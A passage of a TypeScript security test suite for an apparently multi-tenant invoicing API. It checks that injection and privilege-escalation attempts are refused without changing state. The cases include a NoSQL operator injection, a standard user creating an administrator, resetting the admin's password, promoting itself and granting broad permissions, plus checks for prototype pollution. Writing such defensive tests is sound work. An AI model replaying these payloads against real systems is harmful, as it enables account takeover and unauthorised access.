    path: (f) => `${theInvoice(f)}/owner`,
    body: { ownerId: { $in: ["admin"] } },
    status: 400,
    error: { path: "/ownerId/$in", code: "body.unsafeKey" },
  },
  {
    name: "refuses an ownership transfer without an owner",
    as: "clerk",
    method: "POST",
    path: (f) => `${theInvoice(f)}/owner`,
    body: [NO_SUCH_ID],
    status: 422,
    error: { path: "/ownerId", code: "owner.invalid" },
  },
];

const ADMIN_ROUTES: BadInputCase[] = [
  {
    name: "refuses a standard user's metadata draft",
    as: "clerk",
    method: "PUT",
    path: draft("permissionSet", "invoiceClerk"),
    body: {
      kind: "permissionSet",
      name: "invoiceClerk",
      label: { en: "Clerk" },
      system: { modifyAllData: true, viewAllData: true, manageMetadata: true },
    },
    status: 403,
  },
  {
    name: "refuses a standard user's publish",
    as: "clerk",
    method: "POST",
    path: PUBLISH,
    body: { force: true },
    status: 403,
  },
  {
    name: "refuses a standard user's deletion of a draft document",
    as: "clerk",
    method: "DELETE",
    path: draft("object", "invoice"),
    status: 403,
  },
  {
    name: "refuses a standard user's reading of the draft",
    as: "clerk",
    method: "GET",
    path: "/api/v1/metadata/draft",
    status: 403,
  },
  {
    name: "refuses a standard user's new administrator",
    as: "clerk",
    method: "POST",
    path: "/api/v1/users",
    body: {
      username: "mallory",
      name: "Mallory",
      email: "mallory@demo.example.com",
      profile: "systemAdministrator",
      password: PASSWORD,
    },
    status: 403,
  },
  {
    name: "refuses a standard user's change of the admin's password",
    as: "clerk",
    method: "POST",
    path: (f) => `/api/v1/users/${f.adminId}/password`,
    body: { password: "owned by mallory" },
    status: 403,
  },
  {
    name: "refuses a standard user's reading of the audit log",
    as: "clerk",
    method: "GET",
    path: "/api/v1/audit",
    status: 403,
  },
  {
    name: "refuses a standard user's deactivation of the admin",
    as: "clerk",
    method: "PATCH",
    path: (f) => `/api/v1/records/user/${f.adminId}`,
    ifMatch: "1",
    body: { active: false },
    status: 403,
  },
  {
    name: "refuses a standard user's promotion of themself",
    as: "clerk",
    method: "PATCH",
    path: (f) => `/api/v1/records/user/${f.clerkId}`,
    ifMatch: "1",
    body: { profile: "systemAdministrator" },
    status: 403,
  },
  {
    name: "refuses a standard user's permission set assignment",
    as: "clerk",
    method: "POST",
    path: "/api/v1/records/permissionSetAssignment",
    body: (f: BatteryFixture) => ({ assignee: f.clerkId, permissionSet: "invoiceClerk" }),
    status: 404,
  },
  {
    name: "refuses a new user with an unknown profile, even from the admin",
    method: "POST",
    path: "/api/v1/users",
    body: {
      username: "mallory",
      name: "Mallory",
      email: "mallory@demo.example.com",
      profile: "godMode",
      password: PASSWORD,
    },
    status: 422,
    error: { path: "/profile" },
  },
];

// The server runs in this process: a polluted Object.prototype would show up right here.
const prototypeKeys = () => Object.getOwnPropertyNames(Object.prototype).sort();
const pristine = prototypeKeys();

let f: BatteryFixture;

beforeAll(async () => {
  f = await buildBatteryFixture();
}, 120_000);

afterAll(async () => {
  await f?.t.close();
});

const refusesWithoutChange = async (c: BadInputCase) => {
  await c.setup?.(f);
  try {
    const before = await takeTenantSnapshot(f.admin, f.probes);
    const version = Number(before.records[`invoice/${f.invoiceId}`]?.version);
    const res = await sendCase(c, f, version);
    const problem = expectProblem(res, c.status);
    if (c.code !== undefined) expect(problem.code).toBe(c.code);
    if (c.error !== undefined)
      expect(problem.errors).toEqual(expect.arrayContaining([expect.objectContaining(c.error)]));
    expect(await takeTenantSnapshot(f.admin, f.probes)).toEqual(before);
    expect(prototypeKeys()).toEqual(pristine);
  } finally {
    await c.teardown?.(f);
  }
};

const BATTERY: ReadonlyArray<readonly [string, BadInputCase[]]> = [
  ["prototype, operator and dotted keys", KEYS],
  ["operator injection and code-looking values in queries", INJECTION],
  ["body depth, size, syntax and media type", SHAPE],
  ["unknown, hidden, system and computed fields", MASS_ASSIGNMENT],
  ["field values of every type", FIELD_VALUES],
  ["If-Match preconditions", PRECONDITIONS],
  ["unknown objects, records and kinds", NOT_FOUND],
  ["list parameters", LIST_PARAMS],
  ["rules and URLs in metadata drafts", METADATA],
  ["sharing and ownership bodies", SHARING],
  ["sign-in and tokens", SIGN_IN],
  ["a standard user on admin routes", ADMIN_ROUTES],
];

it("holds at least 50 cases, each named once", () => {
  const names = BATTERY.flatMap(([, cases]) => cases.map((c) => c.name));
  expect(names.length).toBeGreaterThanOrEqual(50);
  expect(new Set(names).size).toBe(names.length);
});

for (const [capability, cases] of BATTERY) {
  describe(capability, () => {
    for (const c of cases) (c.knownBug === undefined ? it : it.fails)(c.name, () => refusesWithoutChange(c));
  });
}

// Controls, run last because they write: a snapshot that missed a kind of write would make every
// case above pass vacuously.
describe("the before/after snapshot", () => {
  const changedBy = async (write: () => Promise<unknown>) => {
    const before = await takeTenantSnapshot(f.admin, f.probes);
    await write();
    const after = await takeTenantSnapshot(f.admin, f.probes);
    return (Object.keys(before) as Array<keyof typeof before>).filter(
      (part) => JSON.stringify(before[part]) !== JSON.stringify(after[part]),
    );
  };

  it("notices a changed record and its history", async () => {
    const version = Number((await f.admin.get(theInvoice(f))).body.version);
    expect(await changedBy(() => f.clerk.patch(theInvoice(f), { title: "Changed" }, version))).toEqual([
      "records",
      "historyLengths",
    ]);
  });

  it("notices a new record", async () => {
    expect(await changedBy(() => f.clerk.post(INVOICES, VALID))).toEqual(["counts"]);
  });

  it("notices a rewritten draft document", async () => {
    const changed = await changedBy(() => putClerkSet(f, { description: { en: "Changed" } }));
    expect(changed).toEqual(["draftListing", "draftDocuments"]);
  });

  it("notices a publish, and its audit event", async () => {
    await putClerkSet(f, { description: { en: "Changed again" } });
    expect(await changedBy(() => f.admin.post(PUBLISH, {}))).toEqual([
      "publishedVersions",
      "currentVersion",
      "auditLength",
      "newestAuditEvent",
    ]);
  });

  it("notices an audit event of a refused sign-in", async () => {
    const wrongPassword = { tenant: "demo", username: "clerk", password: "wrong password" };
    expect(await changedBy(() => f.t.anonymous().post(LOGIN, wrongPassword))).toEqual([
      "auditLength",
      "newestAuditEvent",
    ]);
  });
});
